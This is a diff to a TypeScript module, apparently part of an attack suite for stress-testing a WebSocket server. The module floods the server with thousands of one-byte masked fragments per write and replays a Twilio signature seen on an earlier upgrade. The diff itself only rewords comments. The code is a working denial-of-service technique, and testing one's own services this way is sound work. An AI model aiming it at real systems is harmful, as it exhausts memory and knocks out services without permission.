@@ -3,13 +3,13 @@ import { request } from "node:http"
 import type { Duplex } from "node:stream"
 import { type Attack, pause, repeatedly, sign, type Target } from "../Attack.ts"
 
-/** A masked frame of one byte that goes on; RFC 6455, section 5.2. */
+/** A masked fragment of one byte, not the last of its message; RFC 6455, section 5.2. */
 const fragment = (isFirst: boolean) => Buffer.from([isFirst ? 0x01 : 0x00, 0x81, 0, 0, 0, 0, 0x61])
 
-/** Thousands of frames of a byte in one write: what holds them costs many times what was sent. */
+/** Thousands of one-byte fragments in one write. Each takes many times its size in memory. */
 const rest = Buffer.concat(Array.from({ length: 8000 }, () => fragment(false)))
 
-/** The connection behind an upgrade; `undefined` where it was refused. */
+/** The connection after an upgrade, or `undefined` if it was refused. */
 const upgrade = ({ host, port }: Target, headers: Readonly<Record<string, string>>): Promise<Duplex | undefined> =>
   new Promise((resolve) => {
     const asked = request({
@@ -30,7 +30,7 @@ const upgrade = ({ host, port }: Target, headers: Readonly<Record<string, string
     asked.end()
   })
 
-/** Twilio's own signature over the upgrade: one that was seen can be sent again. */
+/** The upgrade has Twilio's own signature: an attacker can repeat one that they have seen. */
 export const fragments: Attack = {
   name: "messages in tiny fragments",
   strength: "50 WebSockets, 60,000 fragments each",
